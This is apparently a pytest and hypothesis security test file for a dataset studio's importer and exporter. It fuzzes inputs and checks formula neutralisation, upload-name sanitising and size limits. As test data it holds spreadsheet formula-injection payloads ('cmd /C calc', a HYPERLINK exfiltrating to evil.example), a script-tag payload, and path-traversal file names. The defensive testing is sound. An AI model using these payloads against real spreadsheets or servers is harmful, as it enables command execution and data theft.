"""Hostile input: whatever a seed file holds, the importer answers with a plain StudioError or a preview,
and a failed import writes nothing; spreadsheet formulas in cells stay text in the workspace and are
neutralised in CSV exports; an upload's name cannot point anywhere; an oversized upload is refused by the
server before it is stored.

The shapes of bad files people make by mistake are in test_bad_input.py (one message each); here hypothesis
throws random bytes, random CSV and random JSON at the same path, plus the deliberate attacks.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from studio.config import load_settings
from studio.data.export import csv_safe, export_version
from studio.data.importer import commit_import, preview_file
from studio.data.readers import MAX_NESTING, SUPPORTED_EXTENSIONS, safe_display_name
from studio.data.versions import FreezeConfig, freeze_version
from studio.errors import InputFileError, StudioError
from studio.workspace import Workspace
from studio.workspace.projects import create_project
from studio.workspace.seeds import list_seeds
from tests.conftest import EXAMPLE_SEEDS, SHARED_SEEDS, RunningApp, snapshot

FUZZ = settings(max_examples=100, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
COLUMNS = ["instruction", "input", "output", "prompt", "completion", "text", "label", "messages", "tokens",
           "tags", "question", "answer", "=cmd", ""]
ATTACKS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "<script>window.__pwned=1</script>"]


@pytest.fixture(scope="module")
def fuzz_ws(tmp_path_factory: pytest.TempPathFactory) -> tuple[Workspace, int]:
    """One workspace for every fuzz example: a project that already holds seeds, so a failed import that
    wrote anything would show in the snapshot."""
    ws = Workspace(load_settings(tmp_path_factory.mktemp("fuzz") / "home"))
    p = create_project(ws, "Fuzzed")
    commit_import(ws, p.id, preview_file(ws, EXAMPLE_SEEDS, project_id=p.id))
    return ws, p.id


def import_or_plain_error(ws: Workspace, project_id: int, data: bytes, name: str) -> None:
    """Preview and import `data` saved as `name`: it imports, or raises a StudioError whose message is
    plain text (no traceback, no Python repr) and leaves every table as it was."""
    before = snapshot(ws)
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / name
        path.write_bytes(data)
        try:
            preview = preview_file(ws, path, project_id=project_id)
            preview.summary()
            preview.problems  # noqa: B018 - builds every message
            commit_import(ws, project_id, preview)
        except StudioError as exc:
            message = str(exc)
            assert message.strip() and "Traceback" not in message and len(message) < 2000, message
            assert snapshot(ws) == before, f"a failed import changed the workspace: {message}"
            return
    # It imported: undo, so the next example starts from the same workspace.
    with ws.write() as conn:
        new = conn.execute("SELECT MAX(id) FROM seed_import").fetchone()[0]
        conn.execute("DELETE FROM seed WHERE import_id = ?", (new,))
        conn.execute("DELETE FROM seed_import WHERE id = ?", (new,))


@FUZZ
@given(data=st.binary(max_size=2048), ext=st.sampled_from(SUPPORTED_EXTENSIONS))
def test_random_bytes_never_crash_the_importer(fuzz_ws, data, ext) -> None:
    ws, pid = fuzz_ws
    import_or_plain_error(ws, pid, data, f"random{ext}")


cells = st.one_of(st.text(max_size=40), st.sampled_from(ATTACKS), st.just('"'), st.just("[1, 2"),
                  st.just('[{"role": "user", "content": "hi"}, {"role": "assistant", "content": "yo"}]'))


@FUZZ
@given(header=st.lists(st.sampled_from(COLUMNS), min_size=1, max_size=5),
       rows=st.lists(st.lists(cells, max_size=6), max_size=8),
       delimiter=st.sampled_from([",", ";", "\t", "|"]), raw=st.booleans(), bom=st.booleans())
def test_random_csv_never_crashes_the_importer(fuzz_ws, header, rows, delimiter, raw, bom) -> None:
    ws, pid = fuzz_ws
    if raw:  # cells pasted together unquoted: broken quoting, ragged rows
        text = "\n".join(delimiter.join(r) for r in [header, *rows])
    else:
        buf = io.StringIO()
        writer = csv.writer(buf, delimiter=delimiter)
        writer.writerow(header)
        writer.writerows(rows)
        text = buf.getvalue()
    data = ("\ufeff" if bom else "").encode() + text.encode("utf-8", "surrogatepass")
    import_or_plain_error(ws, pid, data, "seeds.tsv" if delimiter == "\t" and raw else "seeds.csv")


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30)
    | st.sampled_from(ATTACKS),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.sampled_from([*COLUMNS, "role", "content"]),
                                                                         children, max_size=5),
    max_leaves=30)


@FUZZ
@given(items=st.lists(json_values, max_size=6), as_lines=st.booleans(), cut=st.integers(0, 40))
def test_random_json_never_crashes_the_importer(fuzz_ws, items, as_lines, cut) -> None:
    ws, pid = fuzz_ws
    if as_lines:
        text = "\n".join(json.dumps(i) for i in items)
        text = text[: len(text) - cut] if cut % 3 == 0 else text  # sometimes cut off mid-line
        import_or_plain_error(ws, pid, text.encode(), "seeds.jsonl")
    else:
        import_or_plain_error(ws, pid, json.dumps(items).encode(), "seeds.json")


DEEP = 100_000


@pytest.mark.parametrize("name, text", [
    ("deep.json", "[" * DEEP + "]" * DEEP),
    ("deep.jsonl", '{"instruction": ' + "[" * DEEP + "]" * DEEP + ', "output": "x"}\n'),
    ("meta.jsonl", '{"instruction": "a", "output": "b", "extra": ' + '{"a": ' * 900 + "1" + "}" * 900 + "}\n"),
    ("wrapped.json", '{"data": [{"instruction": "a", "output": ' + "[" * 200 + "]" * 200 + "}]}"),
])
def test_deeply_nested_json_is_refused_with_a_message(ws, name, text, tmp_path) -> None:
    path = tmp_path / name
    path.write_text(text)
    with pytest.raises(InputFileError, match=f"more than {MAX_NESTING} levels deep"):
        preview_file(ws, path)


def test_a_csv_cell_of_nested_brackets_is_just_text(ws, tmp_path) -> None:
    path = tmp_path / "brackets.csv"
    path.write_text('instruction,output\n"' + "[" * DEEP + '",fine\n')
    preview = preview_file(ws, path)
    assert preview.counts["usable"] == 1 and preview.rows[0].record["instruction"] == "[" * DEEP


def test_huge_fields_import_whole(ws, tmp_path) -> None:
    """A field of 3 MB (a long document as a seed) is read whole, in CSV and JSONL alike."""
    huge = "long answer " * 250_000
    p = create_project(ws, "Huge")
    (tmp_path / "huge.csv").write_text(f'instruction,output\n"Summarise this.","{huge}"\n')
    (tmp_path / "huge.jsonl").write_text(json.dumps({"instruction": "Summarise that.", "output": huge + "!"}) + "\n")
    for name in ("huge.csv", "huge.jsonl"):
        commit_import(ws, p.id, preview_file(ws, tmp_path / name, project_id=p.id))
    assert sorted(len(s.data["output"]) for s in list_seeds(ws, p.id)) == [len(huge), len(huge) + 1]


# --- formula injection -------------------------------------------------------------------------------------


def formula_seeds(tmp_path: Path) -> Path:
    """The shared seeds plus one row per attack, saved as CSV the way a spreadsheet would."""
    rows = [json.loads(line) for line in SHARED_SEEDS.read_text().splitlines() if line.strip()]
    rows += [{"instruction": f"{attack} (row {i})", "input": attack, "output": attack}
             for i, attack in enumerate(ATTACKS)]
    path = tmp_path / "formulas.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, ["instruction", "input", "output"], extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_formulas_stay_text_in_the_workspace_and_are_neutralised_in_csv(ws, tmp_path) -> None:
    from datasets import load_dataset

    p = create_project(ws, "Formulas")
    commit_import(ws, p.id, preview_file(ws, formula_seeds(tmp_path), project_id=p.id))
    stored = {s.data["instruction"]: s.data for s in list_seeds(ws, p.id)}
    for i, attack in enumerate(ATTACKS):  # verbatim: no apostrophe, no stripped tab or CR
        assert stored[f"{attack} (row {i})"] == {"instruction": f"{attack} (row {i})", "input": attack,
                                                 "output": attack}

    version = freeze_version(ws, p.id, FreezeConfig(name="v1", validation_fraction=0.1, test_fraction=0.1))
    result = export_version(ws, version.id, file_format="csv", style="prompt_completion")
    assert sorted(f.name for f in result.folder.iterdir()) == ["README.md", "test.csv", "train.csv",
                                                               "validation.csv"]
    cells = []
    for f in result.files.values():
        with f.open(newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], f"cells a spreadsheet would run: {dangerous[:3]}"
    completions = {c for c in cells if c.startswith("'")}
    assert {"'" + a for a in ATTACKS if a[0] in "=+-@\t\r"} <= completions
    assert "<script>window.__pwned=1</script>" in cells  # not a formula: left alone
    assert "load_dataset(\"csv\"" in result.card_path.read_text() and "extra `'`" in result.card_path.read_text()

    # Loads with `datasets`, and removing the apostrophe gives the stored text back.
    loaded = load_dataset("csv", data_files={s: str(f) for s, f in result.files.items()},
                          cache_dir=str(tmp_path / "cache"))
    answers = {r["completion"] for s in loaded for r in loaded[s]}
    assert {a[1:] if a.startswith("'") and a[1:2] in ("=", "+", "-", "@", "\t", "\r") else a
            for a in answers} >= set(ATTACKS)

    # The messages style writes each conversation as JSON text; Parquet keeps the cell as written.
    msgs = export_version(ws, version.id, file_format="csv")
    with msgs.files["train"].open(newline="", encoding="utf-8") as fh:
        first = next(csv.DictReader(fh))
    assert json.loads(first["messages"])[0]["role"] == "user"
    parquet = export_version(ws, version.id, file_format="parquet", style="prompt_completion")
    kept = load_dataset("parquet", data_files={s: str(f) for s, f in parquet.files.items()},
                        cache_dir=str(tmp_path / "cache2"))
    assert set(ATTACKS) <= {r["completion"] for s in kept for r in kept[s]}


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("a=1", "a=1"), ("", ""), (3, 3), (["=x"], '["=x"]'), ("'=1", "'=1"),
])
def test_csv_safe_cells(value, expected) -> None:
    assert csv_safe(value) == expected


# --- upload names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../../escape.jsonl", "/etc/escape.jsonl", "..\\..\\escape.jsonl",
                                  "C:\\Windows\\escape.jsonl", "sub/../../escape.jsonl", "esc\nape.jsonl"])
def test_upload_names_are_base_names(ws, name) -> None:
    assert safe_display_name(name) == "escape.jsonl"
    p = create_project(ws, "Names")
    preview = preview_file(ws, EXAMPLE_SEEDS, project_id=p.id, display_name=name)
    commit_import(ws, p.id, preview)
    with ws.read() as conn:
        sources = {r[0] for r in conn.execute("SELECT source FROM seed_import UNION SELECT source FROM seed")}
    assert sources == {"escape.jsonl"}
    assert not list(ws.home.parent.rglob("escape.jsonl"))


@pytest.mark.slow
def test_upload_over_http_cannot_escape_and_oversized_is_refused(tmp_path, shared_seeds) -> None:
    """The browser's path: Gradio's upload route stores a file under its temp folder whatever name it is sent
    with, the import endpoint keeps only the base name, and a file over SEED_STUDIO_MAX_UPLOAD_MB is refused
    by the upload route itself (413), before any of it is stored."""
    import httpx
    from gradio_client import Client

    gradio_tmp = tmp_path / "gradio-tmp"
    app = RunningApp(tmp_path / "home", extra_env={"GRADIO_TEMP_DIR": str(gradio_tmp),
                                                    "SEED_STUDIO_MAX_UPLOAD_MB": "0.1"})
    try:
        client = Client(app.url, verbose=False)
        project = client.predict("Hostile names", "", api_name="/create_project")
        upload = f"{app.url}gradio_api/upload"
        body = EXAMPLE_SEEDS.read_bytes()
        resp = httpx.post(upload, files={"files": ("../../../../escape.jsonl", body, "application/json")})
        resp.raise_for_status()
        stored = Path(resp.json()[0])
        assert stored.resolve().is_relative_to(gradio_tmp.resolve()), stored
        result = client.predict(project["id"], {"path": str(stored), "orig_name": "../../../../escape.jsonl",
                                                "meta": {"_type": "gradio.FileData"}}, "", api_name="/import_seeds")
        assert result["imported"] == 16 and "escape.jsonl" in result["message"]
        assert "../" not in result["message"]
        ws = Workspace.open(app.home)
        with ws.read() as conn:
            assert {r[0] for r in conn.execute("SELECT source FROM seed_import")} == {"escape.jsonl"}
        escaped = [p for p in tmp_path.rglob("escape.jsonl") if not p.resolve().is_relative_to(gradio_tmp.resolve())]
        assert escaped == []

        big = b'{"instruction": "x", "output": "' + b"y" * 1_000_000 + b'"}\n'
        before = sum(f.stat().st_size for f in gradio_tmp.rglob("*") if f.is_file())
        resp = httpx.post(upload, files={"files": ("big.jsonl", big, "application/json")})
        assert resp.status_code == 413, resp.text
        after = sum(f.stat().st_size for f in gradio_tmp.rglob("*") if f.is_file())
        assert after - before < 200_000, "the oversized upload was stored"
    finally:
        app.stop()
